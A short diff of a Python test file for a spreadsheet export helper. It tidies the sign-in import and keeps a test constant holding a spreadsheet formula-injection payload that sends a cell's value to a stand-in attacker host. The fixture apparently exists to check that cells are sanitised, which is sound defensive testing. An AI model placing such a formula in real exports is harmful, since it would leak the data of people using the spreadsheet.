@@ -9,15 +9,7 @@ import pytest
 
 from carenet.spreadsheet import csv_response, csv_text, safe_cell
 from consultations.models import Topic
-from tests.conftest import make_consultation
-
-try:  # staff pages need a second factor; conftest may offer a sign-in that gives it
-    from tests.conftest import sign_in
-except ImportError:
-
-    def sign_in(client, user):
-        sign_in(client, user)
-
+from tests.conftest import make_consultation, sign_in
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&C2,"x")'
 
